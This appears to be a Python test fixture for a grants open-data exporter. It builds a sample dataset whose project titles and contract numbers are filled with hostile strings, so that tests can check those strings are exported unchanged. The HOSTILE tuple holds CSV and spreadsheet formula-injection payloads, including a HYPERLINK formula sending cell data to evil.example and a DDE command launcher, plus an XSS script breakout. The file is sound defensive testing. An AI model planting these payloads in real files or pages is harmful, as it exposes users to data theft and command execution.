"""The open data of the small folder, written once, and records with hostile texts in them."""

import datetime
from collections.abc import Sequence
from dataclasses import replace
from functools import cache
from pathlib import Path

from builtsite import VALID

from grantpages.checks.audit import audit
from grantpages.evidence import ledgerfile
from grantpages.evidence.citations import citations
from grantpages.load import Dataset, load_folder
from grantpages.model import Text
from grantpages.opendata.basis import Basis

ADDRESS = "https://grants.example.kz/open/"
TODAY = datetime.date(2026, 1, 15)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "'=1+1",
    "''=1",
    "x;=1+1",
    "x;'-1",
    "one\n=1+1\n- two\r\n+3\t=4",
    "＝1+1",
    "\t=1+1",
    'quote " and "" and \' and , and ;',
    "<b>&amp;</b> ]]> </script><script>alert(1)</script>",
    "_x0041_ _x000D_",
    "\u202eright to left\u2028line\u2029paragraph",
    "ұзақ " * 4_000,
    "−5",
)
"""Texts of which none may be computed, cut or changed (after OWASP's and PayloadsAllTheThings' lists)."""


@cache
def small_basis() -> Basis:
    """The small folder with its ledger and everything that the audit finds in it."""
    dataset, problems = load_folder(VALID)
    assert dataset is not None, problems
    ledger, faulty = ledgerfile.read(VALID / "evidence" / "ledger.jsonl", "ledger.jsonl")
    assert not faulty
    cited = tuple(citations(dataset.calls, dataset.projects))
    return Basis(dataset, ledger, cited, tuple(audit(dataset, TODAY)), ADDRESS)


def hostile_basis(texts: Sequence[str] = HOSTILE) -> Basis:
    """A project for each text, which is its title in both languages and its contract's number."""
    basis = small_basis()
    project = next(one for one in basis.dataset.projects.values() if one.grant.contract)
    projects = {}
    for number, text in enumerate(texts):
        assert project.grant.contract
        contract = project.grant.contract.model_copy(update={"number": text})
        grant = project.grant.model_copy(update={"contract": contract})
        title = Text.model_construct(kk=text, ru=text, translation=None)
        projects[f"p-{number}"] = project.model_copy(update={"title": title, "grant": grant, "tasks": ()})
    files = {**basis.dataset.files, **{("projects", id): f"projects/{id}.yml" for id in projects}}
    dataset: Dataset = replace(basis.dataset, projects=projects, reports={}, files=files)
    return Basis(dataset, {}, (), (), ADDRESS)


def files_of(folder: Path) -> dict[str, bytes]:
    """Every file below a folder by its name there."""
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
